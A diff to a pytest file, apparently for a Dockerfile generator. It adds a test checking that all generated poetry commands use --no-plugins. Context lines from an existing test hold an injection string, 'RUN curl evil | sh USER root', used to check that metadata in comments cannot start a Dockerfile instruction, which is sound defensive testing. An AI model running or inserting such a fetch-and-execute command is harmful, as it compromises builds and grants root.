@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import dataclasses
+import re
 from pathlib import Path
 
 import pytest
@@ -111,3 +112,36 @@ def test_metadata_in_comments_cannot_start_an_instruction() -> None:
     assert "\nRUN curl evil" not in dockerfile
     assert "\nUSER root" not in dockerfile
     assert "# Python: 3.12 (x RUN curl evil | sh USER root).\n" in dockerfile
+
+
+POETRY_WITH_PLUGINS = """\
+[project]
+name = "app"
+version = "1"
+dependencies = ["six"]
+[tool.poetry]
+package-mode = false
+[tool.poetry.requires-plugins]
+poethepoet = ">=0.30"
+"""
+
+
+@pytest.mark.parametrize("case", [*CASES, "requires-plugins"])
+def test_every_poetry_command_runs_without_plugins(case: str, tmp_path: Path) -> None:
+    """Plugins the project requires (or the developer has) are never resolved in the build;
+    there is no environment variable for it, so the flag is on every command."""
+    root = (
+        make_tree(tmp_path / "p", {"pyproject.toml": POETRY_WITH_PLUGINS, "poetry.lock": ""})
+        if case == "requires-plugins"
+        else FIXTURES / case
+    )
+    dockerfile = render_files(detect_project(root))[0].content
+    commands = [
+        m.group(0)
+        for line in dockerfile.splitlines()
+        if not line.lstrip().startswith("#")
+        for m in re.finditer(r"(?<![\w/=-])poetry \S+", line)
+    ]
+    assert all(c == "poetry --no-plugins" for c in commands), commands
+    if case == "requires-plugins":
+        assert commands == ["poetry --no-plugins"]
